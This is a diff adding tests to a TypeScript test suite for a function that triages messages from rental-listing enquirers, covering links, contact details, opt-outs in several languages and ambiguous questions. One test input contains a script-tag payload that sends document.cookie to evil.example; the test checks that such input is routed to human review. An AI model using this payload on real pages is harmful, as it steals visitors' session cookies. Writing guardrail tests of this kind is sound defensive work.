@@ -87,6 +87,11 @@ const TABLE: { reason: ReasonCode; action: Decision["action"]; input: DecisionIn
     action: "review",
     input: input(`Can I view it? ${"x ".repeat(MAX_NORMALIZED_LENGTH)}`),
   },
+  {
+    reason: "unsupported_language",
+    action: "review",
+    input: input("¿Está disponible la habitación? Me gustaría verla."),
+  },
   { reason: "unknown_intent", action: "review", input: input("Hello there") },
   { reason: "ambiguous", action: "review", input: input("Maybe I could view it?") },
   {
@@ -210,8 +215,9 @@ describe("decide: details", () => {
   });
 
   it("a model fills in when the heuristics find nothing", () => {
+    // A message none of the keyword families reads ("pop round" became a tour cue).
     const d = decide(
-      input("Could I pop round Saturday?", {
+      input("Saturday at 3 suit you?", {
         modelResult: { intent: "tour_request", confidence: 0.8, ambiguity: false },
       }),
     );
@@ -405,5 +411,98 @@ describe("decide: normalization feeds the decision", () => {
   it("is pure: same input, same output", () => {
     const i = input("Can I view it Saturday?");
     expect(decide(i)).toEqual(decide(i));
+  });
+});
+
+describe("decide: what the decision corpus found", () => {
+  const known = { knownPlaces: ["spareroom.com", "https://calendly.com/acme/viewing"] };
+
+  it("a script block and a link to an unknown host before a harmless question go to a person", () => {
+    const d = decide(
+      input(
+        "<script>fetch('https://evil.example/c?'+document.cookie)</script>Can I view it Saturday?",
+        known,
+      ),
+    );
+    expectDecision(d, "review", "inbound_guardrail");
+    expect([...new Set(d.guardrails.map((g) => g.code))]).toEqual(["markup_or_code", "unknown_contact"]);
+    expect(d.guardrails.find((g) => g.code === "unknown_contact")?.detail).toBe('link: "evil.example"');
+    expect(d.reply).toBeNull();
+  });
+
+  it("a link is fine only when it points at a known place", () => {
+    expectDecision(
+      decide(input("Can I view it Saturday? https://www.spareroom.com/flatshare/123", known)),
+      "send",
+      "auto_send_eligible",
+    );
+    expectDecision(
+      decide(input("I tried https://calendly.com/acme/viewing — can I view it Saturday?", known)),
+      "send",
+      "auto_send_eligible",
+    );
+    const other = decide(input("I tried https://calendly.com/someone/else — can I view it Saturday?", known));
+    expectDecision(other, "review", "inbound_guardrail");
+    // Without known places every link is unknown.
+    expectDecision(
+      decide(input("Can I view it Saturday? https://www.spareroom.com/flatshare/123")),
+      "review",
+      "inbound_guardrail",
+    );
+  });
+
+  it("a phone number or email address in the message goes to a person", () => {
+    for (const text of ["Can I view it Saturday? Text me on 917-555-0134", "Can I view it? jo@example.com"]) {
+      const d = decide(input(text, known));
+      expectDecision(d, "review", "inbound_guardrail");
+      expect(d.guardrails.map((g) => g.code)).toEqual(["unknown_contact"]);
+      // The detail names the kind, never the number or address.
+      expect(d.guardrails[0]?.detail).not.toMatch(/0134|jo@/);
+    }
+  });
+
+  it("competing questions stay ambiguous unless a template answers all of them", () => {
+    const covering: DecisionInput["templates"] = [
+      ...TEMPLATES.filter((t) => t.id !== "tpl-tour"),
+      {
+        id: "tpl-tour-full",
+        intent: "tour_request",
+        version: 4,
+        body: "Hi {{first_name}}, it is {{price}}. Book a viewing: {{viewing_link}}",
+      },
+    ];
+    const both = decide(input("How much is the rent, and can I view it Saturday?", { templates: covering }));
+    expectDecision(both, "send", "auto_send_eligible");
+    expect(both.reply?.templateId).toBe("tpl-tour-full");
+    expect(both.secondaryIntents).toContain("price_deposit");
+    // Pets have no fact that answers them, so a price template cannot serve a pets question.
+    expectDecision(
+      decide(input("How much is the deposit and do you allow dogs?", { templates: covering })),
+      "review",
+      "ambiguous",
+    );
+    // Hedging keeps a message ambiguous whatever the templates.
+    expectDecision(
+      decide(input("Maybe I could view it, not sure, how much is the rent?", { templates: covering })),
+      "review",
+      "ambiguous",
+    );
+  });
+
+  it("opt-outs in other languages are recorded and suppress the reply", () => {
+    for (const text of ["Por favor no me envíen más mensajes", "Ne me contactez plus", "退订", "Stopp"]) {
+      expect(decide(input(text))).toMatchObject({ action: "suppressed", optOutChange: "opt_out" });
+    }
+  });
+
+  it("a START keyword opening a question opts back in and the question is answered", () => {
+    const d = decide(input("START. Is it still available?", conv({ optedOut: true })));
+    expect(d).toMatchObject({ action: "send", optOutChange: "opt_in" });
+    expect(decide(input("Start date?", conv({ optedOut: true }))).action).toBe("suppressed");
+  });
+
+  it("questions about the people who live there go to a person, how many of them does not", () => {
+    expectDecision(decide(input("What are the flatmates like?")), "review", "inbound_guardrail");
+    expect(decide(input("How many flatmates are there?")).reason).not.toBe("inbound_guardrail");
   });
 });
